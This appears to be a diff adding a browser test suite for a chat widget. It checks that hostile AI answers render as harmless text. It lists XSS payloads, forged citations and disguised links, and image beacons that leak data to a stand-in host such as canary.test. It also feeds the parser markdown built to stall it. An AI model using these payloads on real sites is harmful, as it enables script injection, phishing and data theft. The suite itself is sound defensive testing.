@@ -1,0 +1,172 @@
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type {} from '../../widget/src/footnote-chat.ts';
+import { browserIsThere, launchBrowser, openPage, strangers, type WatchedPage } from '../helpers/browser.ts';
+import { answerOf, CITATIONS, type ScriptedApi, startScriptedApi, startSite } from './scripted-api.ts';
+
+const CANARY = 'http://canary.test';
+
+/** Each would run a script or make a request where an answer became HTML, or an address became a link unchecked. */
+const PAYLOADS = [
+  '<img src=x onerror=window.__x=1>',
+  '<svg onload=window.__x=1></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__x=1&gt;">',
+  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
+  '<script>window.__x=1</script>',
+  '<a href="jav&#x09;ascript:window.__x=1">x</a>',
+  '[x](javascript:window.__x=1)',
+  '[x](jav\tascript:window.__x=1)',
+  '[x](JaVaScRiPt:window.__x=1)',
+  '[x](data:text/html,<script>window.__x=1</script>)',
+  '[x](vbscript:msgbox(1))',
+  '[x](//canary.test/y)',
+  '![a" onerror="window.__x=1](y)',
+  `![alt](${CANARY}/?q=SECRET)`,
+  `![][r]\n\n[r]: ${CANARY}/r`,
+  `![alt][r]\n\n[r]: ${CANARY}/r "t"`,
+  `<${CANARY}/auto>`,
+  `Look at ${CANARY}/bare.`,
+  `<style>@import url(${CANARY}/style)</style>`,
+  `<link rel=stylesheet href=${CANARY}/link>`,
+  `<form action=${CANARY}><input formaction="javascript:window.__x=1" autofocus onfocus=window.__x=1></form>`,
+  '<template shadowrootmode=open><script>window.__x=1</script></template>',
+  '<x-foo onclick=window.__x=1 onpointerenter=window.__x=1>x</x-foo>',
+  '<form id=fetch><input name=href id=location>',
+  'unclosed <a href="',
+  '```html\n<img src=x onerror=window.__x=1>',
+  `| a | b |\n|---|---|\n| <img src=${CANARY}/cell onerror=window.__x=1> | ![x](${CANARY}/cell) |`,
+  '```mermaid\ngraph TD; A[<img src=x onerror=window.__x=1>]\n```',
+  '$$\\href{javascript:window.__x=1}{x}$$',
+  `[gnp.\u202ekcilc](${CANARY}/rtl)`,
+  '[https://apple.com](https://аpple.com/login)',
+  `[1](${CANARY}/forged) [99](${CANARY}/forged) [99]`,
+];
+
+const STRESS: [string, string][] = [
+  ['2,000 quotes', '>'.repeat(2000)],
+  ['a list 800 levels deep', Array.from({ length: 800 }, (_, level) => `${' '.repeat(level)}- x`).join('\n')],
+  ['50,000 open brackets', '['.repeat(50_000)],
+  ['a table of 30,000 columns', `${'|a'.repeat(30_000)}\n${'|-'.repeat(30_000)}`],
+  ['emphasis that never ends', '*a_b~~'.repeat(10_000)],
+  ['thousands of tables', '| a\n|-\n\n'.repeat(4000)],
+  ['thousands of items', '- \n'.repeat(10_000)],
+  ['one long heading', `# ${' #'.repeat(20_000)}x`],
+  ['backticks of every length', Array.from({ length: 250 }, (_, count) => '`'.repeat(count + 1)).join(' ')],
+  ['odd white space', '\t\v\n'.repeat(15_000)],
+];
+
+describe.skipIf(!browserIsThere)('answers that mean harm (needs chromium)', () => {
+  let browser: Browser;
+  let api: ScriptedApi;
+  let site: { origin: string; stop(): Promise<void> };
+  let tab: WatchedPage;
+  let page: Page;
+
+  beforeAll(async () => {
+    browser = await launchBrowser();
+    api = await startScriptedApi();
+    site = await startSite(
+      () => `<!doctype html><script src="${api.origin}/widget.js" data-project="proj_1" async></script>`,
+    );
+    tab = await openPage(browser);
+    page = tab.page;
+    await page.goto(site.origin);
+    await page.getByRole('button', { name: 'Ask a question' }).click();
+    await page.getByRole('dialog').waitFor();
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await site?.stop();
+    await api?.stop();
+  });
+
+  /** Asks, and returns the answer's element when it is there. */
+  async function answerTo(response: string, citations = CITATIONS) {
+    api.answer = () => answerOf(response, citations);
+    const before = await page.locator('.answer').count();
+    await page.evaluate(() => document.querySelector('footnote-chat')?.reset());
+    await page.evaluate(() => document.querySelector('footnote-chat')?.ask('x'));
+    expect(before).toBeLessThanOrEqual(1);
+    return page.locator('.answer');
+  }
+
+  /** What a hostile answer must not leave behind. */
+  const traces = () =>
+    page.evaluate(() => {
+      const panel = document.querySelector('footnote-chat')?.shadowRoot?.querySelector('.panel');
+      const elements = [...(panel?.querySelectorAll('*') ?? [])];
+      return {
+        ran: Reflect.get(window, '__x'),
+        elements: elements
+          .map(({ localName }) => localName)
+          .filter((name) =>
+            /^(script|iframe|style|link|img|object|embed|input|template|math|x-foo|meta|base)$/.test(name),
+          ),
+        handlers: elements.flatMap((element) =>
+          element.getAttributeNames().filter((name) => /^on|^src|^style$/.test(name)),
+        ),
+        schemes: elements.flatMap((element) =>
+          element instanceof HTMLAnchorElement && !/^(https?|mailto):$/.test(element.protocol) ? [element.href] : [],
+        ),
+      };
+    });
+  const NONE = { ran: undefined, elements: [], handlers: [], schemes: [] };
+
+  it.each(PAYLOADS)('shows as text: %s', async (payload) => {
+    await answerTo(`Before. [1]\n\n${payload}\n\nAfter.`);
+    expect(await traces()).toEqual(NONE);
+    expect(strangers(tab.requests, [site.origin, api.origin])).toEqual([]);
+  });
+
+  it('shows where a link leads, whatever its words say', async () => {
+    const answer = await answerTo(
+      '[https://apple.com](https://аpple.com/login) and [help](https://user@evil.example/x) and https://plain.example/a.',
+    );
+    expect(await answer.textContent()).toBe(
+      'https://apple.com (xn--pple-43d.com) and help (evil.example) and https://plain.example/a.',
+    );
+    expect(await answer.getByRole('link').first().getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
+  });
+
+  it('knows no citation but the server’s', async () => {
+    const answer = await answerTo(`One [1](${CANARY}/forged), two [99](${CANARY}/forged), three [99].`);
+    expect(await answer.textContent()).toBe('One1, two, three.');
+    expect(await answer.getByRole('link').count()).toBe(0);
+  });
+
+  it('takes titles as text, and no address but http and https', async () => {
+    const [first] = CITATIONS;
+    const hostile = (url: string) => [
+      { ...(first as (typeof CITATIONS)[0]), title: '<img src=x onerror=window.__x=1>', heading: '<b>x</b>', url },
+    ];
+    for (const url of [
+      'javascript:window.__x=1',
+      'data:text/html,x',
+      ' javascript:window.__x=1',
+      'ftp://canary.test',
+    ]) {
+      await answerTo('See. [1]', hostile(url));
+      await page.locator('.marker').click();
+      await page.locator('mark').waitFor();
+      expect(await page.locator('.passage a').count()).toBe(0);
+      expect(await page.locator('.name').textContent()).toBe('<img src=x onerror=window.__x=1>');
+    }
+    expect(await traces()).toEqual(NONE);
+  });
+
+  it.each(STRESS)('is not held up by %s', async (_, payload) => {
+    const session = await tab.context.newCDPSession(page);
+    // The main thread's own time: on a machine that is busy with other things the clock on the wall says little.
+    await session.send('Performance.enable', { timeDomain: 'threadTicks' });
+    const busy = async () => {
+      const { metrics } = await session.send('Performance.getMetrics');
+      return 1000 * (metrics.find(({ name }) => name === 'TaskDuration')?.value ?? Number.NaN);
+    };
+    const before = await busy();
+    await answerTo(payload);
+    await page.waitForTimeout(100);
+    const spent = (await busy()) - before;
+    await session.detach();
+    expect(spent).toBeLessThan(200);
+  });
+});
